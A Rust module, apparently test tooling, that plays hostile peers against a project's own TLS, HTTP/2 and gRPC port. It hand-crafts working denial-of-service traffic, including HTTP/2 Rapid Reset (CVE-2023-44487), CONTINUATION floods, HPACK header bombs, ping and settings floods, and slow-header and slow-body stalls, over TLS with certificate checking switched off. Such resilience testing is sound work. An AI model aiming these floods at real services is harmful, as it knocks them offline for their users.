//! What hostile and broken peers do to the nodes' port, one kind each: bytes written by hand, as no library would write them.
#![allow(clippy::wildcard_enum_match_arm, reason = "each protocol has its own kinds")]

use std::{
    io,
    net::{Ipv4Addr, SocketAddr},
    sync::{Arc, LazyLock},
    time::Duration,
};

use rustls::ClientConfig;
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    time::{Instant, sleep, timeout_at},
};
use tokio_rustls::client::TlsStream;

/// A way to be a nuisance.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// A TCP connection on which nothing is said.
    Silent,
    /// A greeting of TLS that says to be of 60 KiB, piece by piece.
    SlowHello,
    /// Bytes that are no TLS.
    Garbage,
    /// A TLS connection on which nothing is said.
    IdleTls,
    /// A record of TLS that never ends.
    HalfRecord,
    /// The preface of HTTP/2, byte by byte.
    SlowPreface,
    /// Bytes that are no HTTP.
    GarbageInTls,
    /// Requests taken back as soon as they are made (CVE-2023-44487).
    RapidReset,
    /// Headers that never end, in large frames (CVE-2024-27316).
    ContinuationFlood,
    /// Headers that never end, in small frames, slowly.
    SlowHeaders,
    /// Headers far above what is read.
    OversizeHeaders,
    /// Headers that are short on the wire and long in memory.
    HeaderBomb,
    /// Messages far above what is read.
    OversizeMessages,
    /// All streams there may be, each with half a message.
    HalfMessages,
    /// Data in the smallest frames, between large ones of an unknown type.
    TinyData,
    /// Requests whose answers may not be sent.
    ZeroWindow,
    /// Requests whose answers are not taken off the wire.
    NeverReads,
    /// Pings.
    PingFlood,
    /// Settings.
    SettingsFlood,
    /// The head of a request of HTTP/1.1, byte by byte.
    SlowHead,
    /// Its body, byte by byte.
    SlowBody,
    /// Many requests of HTTP/1.1 at once, and no answer read.
    Pipeline,
    /// Chunks of one byte with long extensions.
    Chunks,
}

impl Kind {
    pub const ALL: [Self; 23] = [
        Self::Silent,
        Self::SlowHello,
        Self::Garbage,
        Self::IdleTls,
        Self::HalfRecord,
        Self::SlowPreface,
        Self::GarbageInTls,
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::SlowHeaders,
        Self::OversizeHeaders,
        Self::HeaderBomb,
        Self::OversizeMessages,
        Self::HalfMessages,
        Self::TinyData,
        Self::ZeroWindow,
        Self::NeverReads,
        Self::PingFlood,
        Self::SettingsFlood,
        Self::SlowHead,
        Self::SlowBody,
        Self::Pipeline,
        Self::Chunks,
    ];

    /// One connection of this kind from `source`, until the other end closes it or the time is over. Whether it was closed.
    pub async fn attack(self, source: Ipv4Addr, target: SocketAddr, until: Instant) -> bool {
        let connected = timeout_at(until, connect(source, target)).await;
        let Ok(Ok(stream)) = connected else { return connected.is_ok() };
        // Whatever it is that fails, the other end had enough.
        timeout_at(until, self.annoy(stream)).await.is_ok()
    }

    async fn annoy(self, mut stream: TcpStream) -> io::Result<()> {
        match self {
            Self::Silent => read_to_end(&mut stream).await,
            Self::SlowHello => {
                // Records of 2 KiB of a handshake message of type 1 and 61,440 bytes.
                stream.write_all(&[22, 3, 1, 8, 0, 1, 0, 0xf0, 0]).await?;
                stream.write_all(&[3; 2044]).await?;
                for _ in 0..30 {
                    sleep(Duration::from_millis(20)).await;
                    stream.write_all(&[22, 3, 1, 8, 0]).await?;
                    stream.write_all(&[0; 2048]).await?;
                }
                read_to_end(&mut stream).await
            }
            Self::Garbage => {
                stream.write_all(&[0xa5; 5000]).await?;
                read_to_end(&mut stream).await
            }
            Self::SlowHead | Self::SlowBody | Self::Pipeline | Self::Chunks => {
                self.annoy_by_http1(tls(stream, b"http/1.1").await?).await
            }
            Self::HalfRecord => {
                let mut stream = tls(stream, b"h2").await?;
                let (tcp, session) = stream.get_mut();
                let mut record = Vec::new();
                io::Write::write_all(&mut session.writer(), &[0; 16_000])?;
                while session.wants_write() {
                    session.write_tls(&mut record)?;
                }
                record.truncate(15_000);
                tcp.write_all(&record).await?;
                read_to_end(tcp).await
            }
            Self::IdleTls
            | Self::SlowPreface
            | Self::GarbageInTls
            | Self::RapidReset
            | Self::ContinuationFlood
            | Self::SlowHeaders
            | Self::OversizeHeaders
            | Self::HeaderBomb
            | Self::OversizeMessages
            | Self::HalfMessages
            | Self::TinyData
            | Self::ZeroWindow
            | Self::NeverReads
            | Self::PingFlood
            | Self::SettingsFlood => self.annoy_by_http2(tls(stream, b"h2").await?).await,
        }
    }

    async fn annoy_by_http2(self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let mut stream = stream;
        if self == Self::IdleTls {
            return read_to_end(&mut stream).await;
        }
        if self == Self::SlowPreface {
            for byte in PREFACE {
                stream.write_all(&[*byte]).await?;
                sleep(Duration::from_millis(900)).await;
            }
            return read_to_end(&mut stream).await;
        }
        if self == Self::GarbageInTls {
            stream.write_all(&[0xa5; 5000]).await?;
            return read_to_end(&mut stream).await;
        }
        let window = if self == Self::ZeroWindow { 0_u32 } else { 65_535 };
        let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
        stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &settings)].concat()).await?;
        self.misuse_http2(&mut stream).await?;
        if self == Self::NeverReads {
            std::future::pending::<()>().await;
        }
        read_to_end(&mut stream).await
    }

    /// What is written after the preface.
    async fn misuse_http2(self, stream: &mut (impl AsyncWrite + AsyncRead + Unpin)) -> io::Result<()> {
        let ids = || (1_u32..).step_by(2);
        match self {
            Self::RapidReset => {
                for id in ids().take(4000) {
                    let reset = frame(RST_STREAM, 0, id, &[0, 0, 0, 8]);
                    stream.write_all(&[headers(id, ENROLL, END_HEADERS), reset].concat()).await?;
                }
            }
            Self::ContinuationFlood => {
                stream.write_all(&headers(1, ENROLL, 0)).await?;
                for _ in 0..64 {
                    // A literal header field without indexing, of 8 KiB.
                    let field = [&[0, 1, b'x', 0x7f, 0x81, 0x3f][..], &[b'y'; 8192]].concat();
                    stream.write_all(&frame(CONTINUATION, 0, 1, &field)).await?;
                }
            }
            Self::SlowHeaders => {
                stream.write_all(&headers(1, ENROLL, 0)).await?;
                loop {
                    stream.write_all(&frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y'])).await?;
                    sleep(Duration::from_secs(2)).await;
                }
            }
            Self::OversizeHeaders => {
                for id in ids().take(8) {
                    stream.write_all(&headers(id, ENROLL, 0)).await?;
                    let field = [&[0, 1, b'x', 0x7f, 0x81, 0x7d][..], &[b'y'; 16_128]].concat();
                    stream.write_all(&frame(CONTINUATION, 0, id, &field)).await?;
                    stream.write_all(&frame(CONTINUATION, END_HEADERS, id, &[])).await?;
                }
            }
            Self::HeaderBomb => {
                for id in ids().take(8) {
                    let mut block = request(ENROLL);
                    // Put one field in the table, and name it again and again.
                    block.extend([0x40, 1, b'x', 1, b'y']);
                    block.extend([0xbe; 400]);
                    stream.write_all(&frame(HEADERS, END_HEADERS, id, &block)).await?;
                }
            }
            Self::OversizeMessages => {
                for id in ids().take(8) {
                    let data = [&[0, 0, 16, 0, 0][..], &[7; 8000]].concat();
                    stream.write_all(&headers(id, ENROLL, END_HEADERS)).await?;
                    stream.write_all(&frame(DATA, 0, id, &data)).await?;
                }
            }
            Self::HalfMessages => {
                for id in ids().take(8) {
                    let data = [&[0, 0, 0, 0x3f, 0][..], &[7; 7000]].concat();
                    stream
                        .write_all(&headers(id, if id % 4 == 1 { ENROLL } else { SYNC }, END_HEADERS))
                        .await?;
                    stream.write_all(&frame(DATA, 0, id, &data)).await?;
                }
            }
            Self::TinyData => {
                stream.write_all(&headers(1, ENROLL, END_HEADERS)).await?;
                for _ in 0..64 {
                    stream.write_all(&frame(DATA, 0, 1, &[0])).await?;
                    stream.write_all(&frame(0xfe, 0, 0, &[0; 8000])).await?;
                }
            }
            Self::ZeroWindow => {
                for id in ids().take(64) {
                    stream.write_all(&headers(id, HEALTH, END_HEADERS)).await?;
                    stream.write_all(&frame(DATA, END_STREAM, id, &[0; 5])).await?;
                }
            }
            Self::NeverReads => {
                for id in ids().take(500) {
                    stream.write_all(&headers(id, HEALTH, END_HEADERS)).await?;
                    stream.write_all(&frame(DATA, END_STREAM, id, &[0; 5])).await?;
                }
            }
            Self::PingFlood => {
                for _ in 0..20_000 {
                    stream.write_all(&frame(PING, 0, 0, &[1; 8]).repeat(50)).await?;
                }
            }
            Self::SettingsFlood => {
                for _ in 0..20_000 {
                    stream.write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]).repeat(50)).await?;
                }
            }
            other => unreachable!("{other:?} is none of HTTP/2"),
        }
        stream.flush().await
    }

    async fn annoy_by_http1(self, mut stream: TlsStream<TcpStream>) -> io::Result<()> {
        let head = "POST /ringmesh.admin.v1.NodeService/ListNodes HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n";
        match self {
            Self::SlowHead => {
                for byte in head.bytes() {
                    stream.write_all(&[byte]).await?;
                    sleep(Duration::from_secs(1)).await;
                }
            }
            Self::SlowBody => {
                stream.write_all(head.as_bytes()).await?;
                stream.write_all(b"content-length: 1000000\r\n\r\n{").await?;
                loop {
                    stream.write_all(b" ").await?;
                    sleep(Duration::from_secs(1)).await;
                }
            }
            Self::Pipeline => {
                let one = format!("{head}content-length: 2\r\n\r\n{{}}");
                stream.write_all(one.repeat(500).as_bytes()).await?;
                std::future::pending::<()>().await;
            }
            Self::Chunks => {
                let check =
                    head.replace("ringmesh.admin.v1.NodeService/ListNodes", "grpc.health.v1.Health/Check");
                stream.write_all(check.as_bytes()).await?;
                stream.write_all(b"transfer-encoding: chunked\r\n\r\n").await?;
                for _ in 0..20_000 {
                    stream.write_all(format!("1;{}\r\n{{\r\n", "e".repeat(1000)).as_bytes()).await?;
                }
            }
            other => unreachable!("{other:?} is none of HTTP/1.1"),
        }
        read_to_end(&mut stream).await
    }
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const ENROLL: &str = "/ringmesh.control.v1.ControlService/Enroll";
const SYNC: &str = "/ringmesh.control.v1.ControlService/Sync";
const HEALTH: &str = "/grpc.health.v1.Health/Check";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A frame of HTTP/2 (RFC 9113, section 4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn headers(stream: u32, path: &str, flags: u8) -> Vec<u8> {
    frame(HEADERS, flags, stream, &request(path))
}

/// The header block of a call by gRPC (RFC 7541): fields of the static table, and literals that go into no table.
fn request(path: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    let mut block = vec![0x83, 0x87, 0x04];
    block.extend(text(path));
    block.push(0x01);
    block.extend(text("localhost"));
    block.extend([0x0f, 0x10]);
    block.extend(text("application/grpc"));
    block.push(0);
    block.extend(text("te"));
    block.extend(text("trailers"));
    block
}

async fn connect(source: Ipv4Addr, target: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((source, 0).into())?;
    socket.connect(target).await
}

async fn tls(stream: TcpStream, protocol: &[u8]) -> io::Result<TlsStream<TcpStream>> {
    static CONFIG: LazyLock<ClientConfig> = LazyLock::new(|| {
        ClientConfig::builder_with_provider(Arc::new(rustls::crypto::aws_lc_rs::default_provider()))
            .with_safe_default_protocol_versions()
            .unwrap()
            .dangerous()
            .with_custom_certificate_verifier(crate::client::believe())
            .with_no_client_auth()
    });
    let mut config = CONFIG.clone();
    config.alpn_protocols = vec![protocol.to_vec()];
    let connector = tokio_rustls::TlsConnector::from(Arc::new(config));
    connector.connect("localhost".try_into().unwrap(), stream).await
}

async fn read_to_end(stream: &mut (impl AsyncRead + Unpin)) -> io::Result<()> {
    let mut buffer = [0; 2048];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}
